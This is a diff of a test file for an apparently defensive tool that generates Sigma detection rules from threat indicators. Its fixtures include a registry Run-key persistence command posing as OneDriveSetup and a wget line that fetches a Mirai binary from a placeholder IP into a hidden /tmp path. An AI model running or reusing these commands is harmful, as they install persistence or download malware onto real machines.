@@ -129,6 +129,20 @@ describe('builtin SigmaAgent templates', () => {
     expect(titleOf({ value: `HKLM\\${service}`, path: service, value_name: undefined })).toBe('Registry Key QuillRelay Set Under Services');
   });
 
+  it('leaves the genuine program out of a Run value named like Windows\' own, unless the intruder\'s data is known', () => {
+    const runValue = { ...item, value: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSetup', hive: 'HKCU' as const, path: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSetup' };
+    const detectionOf = (cmdlines: BuiltinSigmaInput['cmdlines']) =>
+      (load(must(generateBuiltinRules({ ...input, cmdlines, registryKeys: [runValue] }).find((draft) => draft.telemetryClass === 'registry_set')).yaml) as Rule).detection;
+    expect(detectionOf([])).toEqual({
+      selection: { 'TargetObject|contains': '\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSetup' },
+      filter_genuine: { 'Details|contains': '\\OneDriveSetup.exe' },
+      condition: 'selection and not filter_genuine',
+    });
+    const written = detectionOf([{ ...item, value: 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveSetup /d "C:\\Users\\Public\\quill.exe" /f', executable: 'reg' }]);
+    expect(written['condition']).toBe('selection');
+    expect(written['selection']).toMatchObject({ 'Details|contains': 'C:\\Users\\Public\\quill.exe' });
+  });
+
   it('skips Windows-only classes for a Linux article and uses the linux product', () => {
     const linux = generateBuiltinRules({ ...input, platform: 'linux', processPairs: [], cmdlines: [{ ...item, value: 'cd /tmp && wget -q http://198.51.100.4/bins/mirai.x86 -O /tmp/.sysd/dbus-helper', executable: 'cd' }] });
     const classes = linux.map((draft) => draft.telemetryClass);
